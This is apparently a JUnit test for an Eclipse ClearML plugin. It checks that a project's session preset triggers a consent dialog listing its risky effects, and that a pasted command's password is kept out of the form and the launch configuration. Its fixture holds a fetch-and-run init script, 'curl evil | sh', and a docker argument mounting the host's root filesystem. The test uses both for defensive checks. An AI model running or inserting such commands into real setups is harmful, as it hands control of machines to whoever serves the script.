package org.mlopsclub.clearml.ui.tests.launch;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Optional;

import org.eclipse.core.commands.common.CommandException;
import org.eclipse.core.resources.IProject;
import org.eclipse.core.resources.ResourcesPlugin;
import org.eclipse.debug.core.DebugPlugin;
import org.eclipse.debug.core.ILaunchConfiguration;
import org.eclipse.ui.PlatformUI;
import org.eclipse.ui.handlers.IHandlerService;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.mlopsclub.clearml.core.Preferences;
import org.mlopsclub.clearml.client.cli.Secret;
import org.mlopsclub.clearml.core.launch.LaunchAttributes;
import org.mlopsclub.clearml.core.launch.LaunchSecretStore;
import org.mlopsclub.clearml.testkit.Await;

/** Presets of a project in the wizard, with a server that does not answer. */
class PresetListTest {

    private static final String CONSENT = "Preset of a Project";

    @TempDir
    Path folder;

    private IProject project;

    @BeforeEach
    void createAProjectWithAPreset() throws Exception {
        Preferences.set(Preferences.CONFIG_FILE, Files.writeString(folder.resolve("clearml.conf"),
                "api { api_server: \"http://127.0.0.1:1\", credentials { access_key: a, secret_key: b } }").toString());
        project = ResourcesPlugin.getWorkspace().getRoot().getProject("team");
        project.create(null);
        project.open(null);
        Path presets = project.getLocation().toPath().resolve(".clearml/sessions.json");
        Files.createDirectories(presets.getParent());
        Files.writeString(presets, """
                {"presets": {"team box": {"queue": "gpu", "docker-args": "-v /:/host",
                    "init-script-text": "curl evil | sh", "password": "S3CRET"}}}""");
    }

    @AfterEach
    void deleteIt() throws Exception {
        project.delete(true, true, null);
        Preferences.set(Preferences.CONFIG_FILE, "");
    }

    @Test
    void givenAPresetOfAProjectWhenStartedThenItIsShownFirstAndOnlyOnceAllowedKept() throws Exception {
        String name = startTheTeamsPreset();
        FormWidgets question = FormWidgets.await(CONSENT);
        assertTrue(question.text("effects").contains("curl evil | sh"), question.text("effects"));
        assertTrue(question.text("effects").contains("-v /:/host"), question.text("effects"));
        assertFalse(question.text("effects").contains("S3CRET"), question.text("effects"));
        question.press("Cancel");
        Await.until("the question to close", 10, () -> !question.open());
        assertEquals(Optional.empty(), preset(name));

        String again = startTheTeamsPreset();
        FormWidgets.await(CONSENT).press("Start");
        Await.until("the preset to be kept", 20, () -> preset(again).isPresent());
        ILaunchConfiguration kept = preset(again).orElseThrow();
        assertEquals(Optional.of("-v /:/host"), LaunchAttributes.from(kept).dockerArguments());
        assertFalse(kept.getMemento().contains("S3CRET"), "the launch configuration holds the password");
        assertEquals(Optional.of(Secret.of("S3CRET")), LaunchSecretStore
                .get(LaunchAttributes.secretsKey(kept).orElseThrow()).orElseThrow().password());

        // The kept one has the same name and is offered above the project's.
        preset(again).orElseThrow().delete();
        String third = startTheTeamsPreset();
        Await.until("the preset to be kept without a question", 20, () -> preset(third).isPresent());
    }

    @Test
    void givenACommandWhenPastedThenTheFormHasItAndHidesThePassword() throws Exception {
        FormWidgets wizard = openWizard();
        try {
            PlatformUI.getWorkbench().getDisplay().asyncExec(() -> wizard.pressNow("Paste Command..."));
            FormWidgets paste = FormWidgets.await("Paste Command");
            paste.typeOnly("ls -l");
            assertFalse(paste.enabled("OK"));
            paste.typeOnly("clearml-session --queue cpu \\\n --docker 'a b' --password S3CRET --new-thing 1");
            paste.press("OK");

            Await.until("the form", 10, () -> wizard.text("queue").equals("cpu"));
            assertEquals("a b", wizard.text("docker"));
            assertEquals("--new-thing 1", wizard.text("extraArguments"));
            assertTrue(wizard.says("The password of the command goes to the secure storage."));
            assertEquals("S3CRET", wizard.text("password"));
            assertFalse(wizard.says("S3CRET"));
        } finally {
            wizard.close();
        }
    }

    private static String startTheTeamsPreset() throws Exception {
        FormWidgets wizard = openWizard();
        Await.until("the team's preset", 10, () -> wizard.rows("presets").contains("team box"));
        assertTrue(wizard.rows("presets").contains("Project team"), wizard.rows("presets").toString());
        wizard.choose("presets", "Project team");
        wizard.choose("presets", "team box");
        assertEquals("gpu", wizard.text("queue"));
        String name = wizard.text("preset");
        wizard.press("Start");
        return name;
    }

    private static FormWidgets openWizard() throws Exception {
        PlatformUI.getWorkbench().getDisplay().asyncExec(() -> {
            try {
                PlatformUI.getWorkbench().getActiveWorkbenchWindow().getService(IHandlerService.class)
                        .executeCommand("org.mlopsclub.clearml.ui.newSession", null);
            } catch (CommandException failure) {
                throw new IllegalStateException(failure);
            }
        });
        return FormWidgets.await("New ClearML Session");
    }

    private static Optional<ILaunchConfiguration> preset(String name) throws Exception {
        return Arrays.stream(DebugPlugin.getDefault().getLaunchManager().getLaunchConfigurations())
                .filter(found -> found.getName().equals(name)).findFirst();
    }
}
